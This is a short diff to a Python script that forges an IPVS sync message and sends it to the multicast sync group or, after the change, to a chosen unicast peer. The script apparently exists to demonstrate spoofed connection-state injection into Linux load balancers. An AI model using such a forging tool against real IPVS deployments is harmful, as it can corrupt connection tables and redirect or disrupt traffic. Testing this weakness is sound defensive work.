@@ -3,9 +3,9 @@
 #
 # A forged sync message: IPVS's version 1 with one UDP entry (NAT,
 # established, 300 s), sent to the sync group as anyone on the segment
-# could send it.
+# could send it, or to a unicast peer TO.
 #
-#   sync_forge.py LOCAL SYNCID CADDR:CPORT VADDR:VPORT DADDR:DPORT
+#   sync_forge.py LOCAL SYNCID CADDR:CPORT VADDR:VPORT DADDR:DPORT [TO]
 #
 # LOCAL: the address whose interface the datagram leaves by.
 import socket
@@ -28,7 +28,7 @@ def main(argv):
     s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
     s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(local))
     s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 1)
-    s.sendto(msg, ("224.0.0.81", 8848))
+    s.sendto(msg, (argv[6] if len(argv) > 6 else "224.0.0.81", 8848))
 
 
 if __name__ == "__main__":
